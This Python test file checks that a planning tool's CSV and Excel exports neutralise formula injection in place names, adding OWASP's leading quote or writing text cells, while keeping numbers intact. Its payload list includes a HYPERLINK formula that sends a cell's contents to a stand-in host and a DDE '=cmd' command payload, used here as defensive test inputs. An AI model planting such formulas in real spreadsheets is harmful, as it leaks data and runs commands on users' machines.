"""Formula injection: a name starting with ``=``, ``+``, ``-``, ``@``, tab or CR stays text.

The CSV files get OWASP's leading quote; the workbook gets text cells (never formula cells)
holding the exact name. Numbers, negative ones included, stay numbers in both.
"""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from tests.fixtures.maps import synthetic
from maillage.maps.tables import csv_bytes, write_tables

from maillage.safe import is_number_text, spreadsheet_safe, spreadsheet_text

#: Names a hostile or careless planner could type, as written in the registry.
FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"clic\")", "=1+1", "+33 5 65 00 00 00",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote_in_csv(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-1,5", "+2.25", "-1e3", "-12 345,5"])
def test_a_number_written_as_text_stays_a_number(text):
    assert is_number_text(text)
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("value", ["Catus", "", "ALSH = accueil", "l'@ccueil", None, -2.0, 3])
def test_ordinary_values_are_unchanged(value):
    assert spreadsheet_text(value) == value


def test_spreadsheet_safe_touches_text_only():
    frame = pd.DataFrame({"nom": pd.array(["=1+1", "Catus", None], dtype="str"),
                          "places": [-2.0, 20.0, float("nan")], "n": [1, -3, 2]},
                         index=pd.Index(["@a", "b", "c"]))
    safe = spreadsheet_safe(frame)
    assert safe["nom"].tolist()[:2] == ["'=1+1", "Catus"] and pd.isna(safe["nom"].iloc[2])
    assert safe["places"].dtype == float and safe["n"].dtype == frame["n"].dtype
    assert safe.index.tolist() == ["'@a", "b", "c"]
    assert frame["nom"].iloc[0] == "=1+1"  # the input is not modified


def _hostile_diagnostic():
    from maillage.geo import StraightLineTimer

    from maillage.pipeline import build_diagnostic

    territory = synthetic.territory()
    communes = territory.communes.copy()
    for code, name in zip(communes.index, FORMULAS):
        communes.loc[code, "name"] = name
    territory.communes = communes
    facilities = territory.facilities.copy()
    facilities.loc["t-alsh-bourg", "name"] = "=2+5"
    territory.facilities = facilities
    return build_diagnostic(territory, StraightLineTimer(), at="2025-06-01")


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    from maillage.maps.report import write_report

    out = tmp_path_factory.mktemp("formules") / "sortie"
    write_report(_hostile_diagnostic(), out)
    return out / "tableaux"


def test_the_report_csv_quotes_formula_names_and_keeps_numbers(written):
    table = pd.read_csv(written / "communes.csv", sep=";", decimal=",", dtype={"code": str},
                        encoding="utf-8-sig", keep_default_na=False)
    names = dict(zip(table["code"], table["commune"]))
    # tab and CR names are quoted by the CSV writer; the leading quote comes first.
    assert [names[c] for c in sorted(names)] == ["'" + f for f in FORMULAS[:6]]
    assert pd.api.types.is_numeric_dtype(table["population"])
    assert (table["plus_proche_alsh"] == "'=2+5").any()


def test_the_workbook_has_no_formula_and_the_exact_names(written):
    book = openpyxl.load_workbook(written / "tableaux.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["communes"]
    header = [c.value for c in sheet[1]]
    names = [row[header.index("commune")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == FORMULAS[:6]
    quoted = [c for c in sheet["B"][1:] if c.value in FORMULAS]
    assert quoted and all(c.quotePrefix for c in quoted)
    population = [row[header.index("population")]
                  for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int | float) for v in population)


def test_negative_numbers_stay_numbers_in_csv_and_xlsx(tmp_path):
    frame = pd.DataFrame({"nom": ["=1", "Catus"], "ecart": [-2.5, 1.0],
                          "texte": pd.Series([-1.5, "< 5"], dtype=object)})
    text = csv_bytes(frame).decode("utf-8-sig")
    assert text.splitlines() == ["nom;ecart;texte", "'=1;-2,5;-1,5", "Catus;1,0;< 5"]
    write_tables({"t": frame}, tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "tableaux.xlsx")["t"]
    assert [c.value for c in sheet[2]] == ["=1", -2.5, -1.5]
    assert [c.data_type for c in sheet[2]] == ["s", "n", "n"]


def test_the_scenario_command_csv_is_quoted_too(tmp_path):
    from maillage.cli.scenario import _write_csv

    target = _write_csv(pd.DataFrame({"name": ["@SUM(1)", "Catus"], "places": [-1.0, 2.0]},
                                     index=["46001", "46002"]), tmp_path / "t.csv")
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[1:] == ["46001,'@SUM(1),-1.0", "46002,Catus,2.0"]


def test_formula_cells_are_counted(tmp_path):
    from maillage.safe import xlsx_formulas_as_text

    book = openpyxl.Workbook()
    book.active.append(["=1+1", "@x", "-3", "x"])
    assert xlsx_formulas_as_text(book) == 2
    buffer = io.BytesIO()
    book.save(buffer)
    again = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [c.data_type for c in again[1]] == ["s", "s", "s", "s"]
